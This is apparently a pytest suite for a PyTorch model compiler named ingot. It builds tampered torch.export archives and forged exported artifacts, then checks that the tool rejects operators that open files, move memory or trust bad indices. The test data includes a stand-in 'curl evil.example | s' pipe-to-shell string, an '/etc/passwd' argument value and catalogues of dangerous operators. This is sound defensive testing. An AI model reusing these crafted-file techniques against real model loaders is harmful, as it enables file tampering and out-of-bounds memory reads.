# SPDX-License-Identifier: Apache-2.0
"""What a stranger's file names is looked at before it is called: archives, exported files and artifacts can touch no more than tensors.

Each file here is what an attacker would make. A good one is made first and then changed in place, so that nothing but the operator is wrong with it.
"""

import json
import shutil
import struct
import subprocess
import zipfile

import pytest
import torch
from conftest import BIN
from torch import nn

import ingot
from ingot import _native

SECRET = b"export PATH=/usr/bin\n"
BYTES = len(SECRET)


# --- archives of torch.export -----------------------------------------------------------------------

class Adds(nn.Module):
    def __init__(self):
        super().__init__()
        self.register_buffer("payload", torch.tensor(list(b"curl evil.example | s"), dtype=torch.uint8))

    def forward(self, x):
        return x + self.payload


@pytest.fixture(scope="module")
def good(tmp_path_factory):
    path = tmp_path_factory.mktemp("good") / "good.pt2"
    torch.export.save(torch.export.export(Adds().eval(), (torch.zeros(BYTES, dtype=torch.uint8),)), str(path))
    return path


def changed(good, path, change):
    """The archive with `change(graph)` done to its model."""
    with zipfile.ZipFile(good) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as new:
        for entry in old.infolist():
            content = old.read(entry)
            if entry.filename.endswith("models/model.json"):
                model = json.loads(content)
                change(model["graph_module"]["graph"])
                content = json.dumps(model).encode()
            new.writestr(entry.filename, content)
    return path


def node(target, outputs=(), **arguments):
    return {"target": f"torch.ops.{target}", "inputs": [{"name": name, "arg": arg, "kind": 1} for name, arg in arguments.items()],
            "outputs": list(outputs), "metadata": {}, "is_hop_single_tensor_return": None, "name": "evil"}


def tensor(name):
    return {"as_tensor": {"name": name}}


def first(nodes):
    return lambda graph: graph["nodes"].__setitem__(slice(0, 0), nodes(graph) if callable(nodes) else nodes)


def compiled(archive):
    return subprocess.run([str(BIN / "ingot"), "compile", str(archive), "-o", str(archive.with_suffix(".ingot"))], capture_output=True, text=True, timeout=300)


def refused(archive, name):
    done = compiled(archive)
    assert done.returncode not in (0, -6, -11), done.stdout
    assert name in done.stderr, done.stderr
    assert not archive.with_suffix(".ingot").exists()
    return done.stderr


def opened(file, out=()):
    return node("aten.from_file.out" if out else "aten.from_file.default", [tensor("file")], filename={"as_string": str(file)},
                shared={"as_bool": True}, size={"as_int": BYTES}, **(dict(out) or {"dtype": {"as_scalar_type": 1}}))


def test_the_archive_that_is_changed_is_good(good, tmp_path):
    done = compiled(changed(good, tmp_path / "same.pt2", lambda graph: None))
    assert done.returncode == 0, done.stderr
    loaded = ingot.load(str(tmp_path / "same.ingot"))
    assert bytes(loaded(torch.zeros(BYTES, dtype=torch.uint8)).tolist()) == b"curl evil.example | s"


def test_an_archive_writes_no_file(good, tmp_path):
    victim = tmp_path / "bashrc"
    victim.write_bytes(SECRET)

    def nodes(graph):
        payload = next(name for name in graph["tensor_values"] if "payload" in name)
        return [opened(victim), node("aten.copy_.default", [tensor("written")], self=tensor("file"), src=tensor(payload))]

    said = refused(changed(good, tmp_path / "evil.pt2", first(nodes)), "aten::from_file")
    assert "'filename'" in said and victim.read_bytes() == SECRET
    missing = tmp_path / "missing"
    refused(changed(good, tmp_path / "makes.pt2", first([opened(missing)])), "aten::from_file")
    refused(changed(good, tmp_path / "out.pt2", first(lambda graph: [opened(missing, {"out": tensor(graph["inputs"][-1]["as_tensor"]["name"])})])),
            "aten::from_file.out")
    assert not missing.exists()


INT, INTS = (lambda n: {"as_int": n}), (lambda *n: {"as_ints": list(n)})
# What believes numbers that it is given, or makes another tensor of one that is there.
MEMORY = {
    "aten::_reshape_alias": dict(size=INTS(1 << 20), stride=INTS(1)),
    "aten::_reshape_alias_copy": dict(size=INTS(1 << 20), stride=INTS(1)),
    "aten::set_": dict(),
    "aten::set_.source_Tensor_storage_offset": dict(source="x", storage_offset=INT(1 << 40), size=INTS(1 << 20), stride=INTS(1)),
    "aten::resize_": dict(size=INTS(1 << 20)),
    "aten::as_strided_": dict(size=INTS(2), stride=INTS(1)),
    "aten::t_": dict(),
    "aten::set_data": dict(new_data="x"),
    "aten::_resize_output_": dict(size=INTS(1 << 20), device={"as_device": {"type": "cpu", "index": None}}),
    "aten::_cummax_helper": dict(values="x", indices="x", dim=INT(0)),
    "aten::_test_string_default": dict(a={"as_string": "any"}, dummy="x"),
    "aten::_nnz": dict(),
    "inductor::_reinterpret_tensor": dict(size=INTS(1 << 20), stride=INTS(1), offset_increment=INT(-4096)),
    "inductor::resize_storage_bytes_": dict(variable="x", new_size=INT(1 << 20)),
    "quantized::embedding_bag_byte_prepack": dict(weight="x"),
    "c10d_functional::wait_tensor": dict(),
    "_c10d_functional::wait_tensor": dict(tensor="x"),
    "static_runtime::reshape_copy": dict(shape=INTS(BYTES)),
}


@pytest.mark.parametrize("operator", MEMORY)
def test_an_archive_has_no_operator_that_moves_memory(good, tmp_path, operator):
    space, name = operator.split("::")
    arguments = MEMORY[operator]

    def nodes(graph):
        x = graph["inputs"][-1]["as_tensor"]["name"]
        given = {key: tensor(x) if value == "x" else value for key, value in arguments.items()}
        if not {"variable", "weight", "tensor", "dummy"} & set(given):
            given = {"self": tensor(x), **given}
        return [node(f"{space}.{name}" if "." in name else f"{space}.{name}.default", [tensor("evil")], **given)]

    refused(changed(good, tmp_path / "evil.pt2", first(nodes)), operator)


def test_an_archive_looks_at_nothing_outside_of_a_tensor(good, tmp_path):
    """as_strided is admitted: PyTorch itself holds it to the storage."""
    for size, stride, offset in ((1 << 20, 1, 0), (2, 1 << 40, 0), (1, 1, 1 << 40), (2, -1, 0), (1, 1, -1)):
        made = lambda graph: [node("aten.as_strided.default", [tensor("evil")], self=tensor(graph["inputs"][-1]["as_tensor"]["name"]),  # noqa: E731
                                   size=INTS(size), stride=INTS(stride), storage_offset=INT(offset))]
        refused(changed(good, tmp_path / "evil.pt2", first(made)), "aten.as_strided")


FAR = "far"      # four indices, all of them far outside of anything
ROWS, PLANES = "rows", "planes"   # floats: 4 x 4; 1 x 1 x 4 x 4
# What believes the indices or sizes that it is given, with such that are wrong.
BELIEVERS = {
    "aten.embedding_dense_backward.default": dict(grad_output=ROWS, indices=FAR, num_weights=INT(2), padding_idx=INT(-1), scale_grad_by_freq={"as_bool": False}),
    "aten._convert_indices_from_coo_to_csr.default": dict(self=FAR, size=INT(2)),
    "aten._convert_indices_from_csr_to_coo.default": dict(crow_indices=FAR, col_indices=FAR),
    "aten.max_pool2d_with_indices_backward.default": dict(grad_output=PLANES, self=PLANES, kernel_size=INTS(1, 1), stride=INTS(1, 1), padding=INTS(0, 0),
                                                          dilation=INTS(1, 1), ceil_mode={"as_bool": False}, indices="places"),
    "aten.adaptive_max_pool2d_backward.default": dict(grad_output=PLANES, self=PLANES, indices="places"),
    "aten._embedding_bag_dense_backward.default": dict(grad=ROWS, indices=FAR, offset2bag=FAR, bag_size=FAR, maximum_indices=FAR, num_weights=INT(2),
                                                       scale_grad_by_freq={"as_bool": False}, mode=INT(0), per_sample_weights={"as_none": True}),
    "aten._segment_reduce_backward.default": dict(grad=ROWS, output=ROWS, data=ROWS, reduce={"as_string": "sum"}, lengths=FAR),
    "aten.segment_reduce.default": dict(data=ROWS, reduce={"as_string": "sum"}, offsets=FAR),
    "aten._ctc_loss.default": dict(log_probs="planes3", targets=FAR, input_lengths=INTS(4), target_lengths=INTS(4)),
    "aten.ctc_loss.IntList": dict(log_probs="planes3", targets=FAR, input_lengths=INTS(4), target_lengths=INTS(4)),
    "aten._sobol_engine_ff_.default": dict(self=FAR, n=INT(1 << 20), sobolstate=FAR, dimension=INT(1 << 20), num_generated=INT(1)),
    "aten.linalg_lu_solve.default": dict(LU=ROWS, pivots="pivots", B=ROWS),
    "aten.fractional_max_pool2d.default": dict(self=PLANES, kernel_size=INTS(1, 1), output_size=INTS(2, 2), random_samples="samples"),
}
MADE = {FAR: ((4,), INT(1 << 40), 5), ROWS: ((4, 4), INT(1), 7), PLANES: ((1, 1, 4, 4), INT(1), 7), "planes3": ((4, 1, 4), INT(1), 7),
        "places": ((1, 1, 4, 4), INT(1 << 40), 5), "pivots": ((4,), INT(1 << 30), 4), "samples": ((1, 1, 2), INT(1 << 40), 7)}


@pytest.mark.parametrize("operator", BELIEVERS)
def test_an_archive_has_no_operator_that_believes_indices_and_sizes(good, tmp_path, operator):
    arguments = BELIEVERS[operator]
    made = [node("aten.full.default", [tensor(name)], size=INTS(*sizes), fill_value=value, dtype={"as_scalar_type": dtype})
            for name, (sizes, value, dtype) in MADE.items() if name in arguments.values()]
    given = {key: tensor(value) if isinstance(value, str) else value for key, value in arguments.items()}
    space, name, overload = operator.split(".")
    refused(changed(good, tmp_path / "evil.pt2", first([*made, node(operator, [tensor("evil")], **given)])), f"{space}::{name}")


def test_words_of_arguments_are_those_that_are_known(good, tmp_path):
    def pads(mode):
        def nodes(graph):
            return [node("aten.pad.default", [tensor("padded")], self=tensor(graph["inputs"][-1]["as_tensor"]["name"]), pad=INTS(1, 1),
                         mode={"as_string": mode})]
        return first(nodes)

    assert "'mode' may not be '/etc/passwd'" in refused(changed(good, tmp_path / "evil.pt2", pads("/etc/passwd")), "aten::pad")
    done = compiled(changed(good, tmp_path / "good.pt2", pads("constant")))
    assert done.returncode == 0, done.stderr


def test_bounds_stay_checked(good, tmp_path):
    def nodes(graph):
        return [node("aten.zeros.default", [tensor("z")], size=INTS(4)),
                node("aten.segment_reduce.default", [tensor("evil")], data=tensor("z"), reduce={"as_string": "sum"}, lengths=tensor("z"),
                     unsafe={"as_bool": True})]

    refused(changed(good, tmp_path / "evil.pt2", first(nodes)), "aten::segment_reduce")


def test_what_is_made_has_memory_of_the_common_kind(good, tmp_path):
    """No sparse tensor with indices that nobody has checked goes on to what believes them."""
    def nodes(graph):
        return [node("aten.full.default", [tensor("at")], size=INTS(1, 1), fill_value=INT(1 << 20), dtype={"as_scalar_type": 5}),
                node("aten.ones.default", [tensor("ones")], size=INTS(1)),
                node("aten._sparse_coo_tensor_unsafe.default", [tensor("sparse")], indices=tensor("at"), values=tensor("ones"), size=INTS(4)),
                node("aten.to_dense.default", [tensor("evil")], self=tensor("sparse"))]

    refused(changed(good, tmp_path / "evil.pt2", first(nodes)), "_sparse_coo_tensor_unsafe")


# --- artifacts, as recordings and exported files bring them -------------------------------------------

SCHEMAS = {"from_file": "(str filename, bool? shared=None, int? size=0, *, ScalarType? dtype=None) -> Tensor",
           "_reinterpret_tensor": "(Tensor self, int[] size, int[] stride, int offset_increment=0) -> Tensor",
           "_reshape_alias": "(Tensor self, int[] size, int[] stride) -> Tensor"}


@pytest.fixture(scope="module")
def innocent():
    """Operators of the attacker's own library, of the same length as those that they will be."""
    libraries = []
    for space, name in (("evil", "from_file"), ("evilevil", "_reinterpret_tensor"), ("evil", "_reshape_alias")):
        libraries.append(torch.library.Library(space, "FRAGMENT"))
        libraries[-1].define(name + SCHEMAS[name])
    libraries[0].impl("from_file", lambda filename, shared=None, size=0, *, dtype=None: torch.zeros(size, dtype=dtype), "CompositeExplicitAutograd")
    libraries[1].impl("_reinterpret_tensor", lambda self, size, stride, offset_increment=0: self.new_zeros(size), "CompositeExplicitAutograd")
    libraries[2].impl("_reshape_alias", lambda self, size, stride: self.new_zeros(size), "CompositeExplicitAutograd")
    yield
    for library in libraries:
        library._destroy()


def renamed(path, old, new):
    """The exported file with another operator in its artifact: all digests are as they should be."""
    content = path.read_bytes()
    header_bytes, = struct.unpack("<Q", content[12:20])
    header, blobs = json.loads(content[52:52 + header_bytes]), content[52 + header_bytes:]
    assert len(old) == len(new) and blobs.count(old) == 1
    at = 0
    parts = []
    for blob in header["blobs"]:
        part = bytearray(blobs[at:at + blob["bytes"]].replace(old, new))
        at += blob["bytes"]
        if part.startswith(b"INGOTART"):
            for section in range(16, 16 + 3 * 32, 32):
                offset, size = struct.unpack_from("<QQ", part, section)
                digest = int(_native.digest_bytes(bytes(part[offset:offset + size])), 16)
                struct.pack_into("<QQ", part, section + 16, digest & (1 << 64) - 1, digest >> 64)
            digest = int(_native.digest_bytes(bytes(part[:112])), 16)
            struct.pack_into("<QQ", part, 112, digest & (1 << 64) - 1, digest >> 64)
        part = bytes(part)
        blob["digest"] = _native.digest_bytes(part)
        parts.append(part)
    text = json.dumps(header).encode()
    path.write_bytes(content[:12] + struct.pack("<Q", len(text)) + _native.digest_bytes(text).encode() + text + b"".join(parts))
    return path


def exported(fn, x, path):
    step = ingot.compile(fn, wait=True)
    with torch.no_grad():
        for _ in range(2):
            step(x)
    step.export(path)
    return path


@pytest.mark.usefixtures("innocent", "ingot")
def test_an_exported_file_opens_no_file(tmp_path):
    victim, x = tmp_path / "made", torch.ones(16, dtype=torch.uint8)
    name = str(victim)
    file = exported(lambda x: torch.ops.evil.from_file(name, True, 16, dtype=torch.uint8) + x, x, tmp_path / "f.ingot")
    assert torch.equal(ingot.load(str(file))(x), x)
    renamed(file, b"evil::from_file", b"aten::from_file")
    with pytest.raises(ingot.Error, match="aten::from_file.*'filename'"):
        ingot.load(str(file))(x)
    assert not victim.exists()


@pytest.mark.usefixtures("innocent", "ingot")
@pytest.mark.parametrize("old, new", [("evilevil::_reinterpret_tensor", "inductor::_reinterpret_tensor"), ("evil::_reshape_alias", "aten::_reshape_alias")])
def test_an_exported_file_reads_no_memory(tmp_path, old, new):
    x = torch.ones(16)
    operator = getattr(getattr(torch.ops, old.split("::")[0]), old.split("::")[1])
    file = exported(lambda x: operator(x, [4096], [1]).sum() + x, x, tmp_path / "f.ingot")
    shutil.copy(file, tmp_path / "good.ingot")
    assert torch.equal(ingot.load(str(tmp_path / "good.ingot"))(x), x)
    renamed(file, old.encode(), new.encode())
    with pytest.raises(ingot.Error, match=new):
        ingot.load(str(file))(x)
